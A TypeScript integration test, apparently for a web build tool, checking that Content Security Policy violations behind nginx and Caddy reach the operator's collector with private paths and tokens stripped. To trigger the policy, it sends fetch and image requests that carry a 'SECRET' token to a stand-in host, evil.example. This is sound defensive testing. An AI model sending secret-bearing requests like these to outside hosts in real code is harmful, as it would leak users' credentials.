import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { compiledApp } from '#app/test/compiled-app.ts';
import { sharedBrowser } from '#app/test/shared-browser.ts';
import {
  HAS_CADDY,
  HAS_NGINX,
  type HostileUpstream,
  openHostileUpstream,
  startCaddy,
  startNginx,
} from '#cli/build/hosting/hosting-servers.fixture.ts';
import { stampBrand } from '#cli/build/stamp-brand.ts';
import { testBrands } from '#cli/test/brands.ts';

const BRAND = 'harborlight';
const COLLECTOR = '/sports/client-reports';

// A machine without one of them says so in the name of the test.
describe.each([
  ['nginx', HAS_NGINX, startNginx],
  ['Caddy', HAS_CADDY, startCaddy],
] as const)('what the policy refuses behind %s (here: %s)', (_name, isHere, start) => {
  const out = mkdtempSync(path.join(tmpdir(), 'slipway-policy-'));
  const brands = testBrands([BRAND]);
  let upstream: HostileUpstream;
  beforeAll(async () => {
    const reports = `"errorReports": { "to": "${COLLECTOR}", "webVitals": false, "consent": false }, "storageSecret"`;
    brands.edit(BRAND, '"storageSecret"', reports);
    await stampBrand({ root: brands.root, appRoot: process.cwd(), id: BRAND, app: await compiledApp(), out });
    upstream = await openHostileUpstream();
  });
  afterAll(async () => {
    await upstream?.close();
    brands.remove();
    rmSync(out, { recursive: true, force: true });
  });

  it("reaches the operator's collector, with the site of the address and nothing else of it", async () => {
    if (!isHere) return expect(isHere).toBe(false);
    const server = await start({ root: out, out, upstreamPort: upstream.port, brand: BRAND });
    const context = await (await sharedBrowser()).newContext();
    const page = await context.newPage();
    await page.clock.install();
    await page.goto(`${server.url}/coming-soon`);
    await page.getByRole('main').waitFor();
    const reports = () => upstream.posted.filter((line) => line.startsWith(`${COLLECTOR} `)).join();
    const asReport = (directive: string) => `"kind":"csp","directive":"${directive}","blocked":"evil.example"`;
    /** What breaks the policy, once the page has seen that it does. */
    const violate = (kind: 'call' | 'picture') =>
      page.evaluate(async (what) => {
        const isViolated = new Promise((resolve) => document.addEventListener('securitypolicyviolation', resolve));
        if (what === 'call') void fetch('https://x.evil.example/PRIVATE?token=SECRET').catch(() => undefined);
        else new Image().src = 'https://y.evil.example/PRIVATE.png?token=SECRET';
        await isViolated;
      }, kind);

    await violate('call');
    // Whatever the page has noted goes once it has loaded what sends it, ten seconds later.
    const afterTenSeconds = () => page.clock.runFor(10_000).then(reports);
    await expect.poll(afterTenSeconds).toContain(asReport('connect-src'));
    // What is not sent by then goes as the page closes.
    await violate('picture');
    await page.goto('about:blank');
    await expect.poll(reports).toContain(asReport('img-src'));
    expect(reports()).not.toMatch(/PRIVATE|SECRET|x\.evil|y\.evil/);
    await context.close();
    await server.close();
  });
});
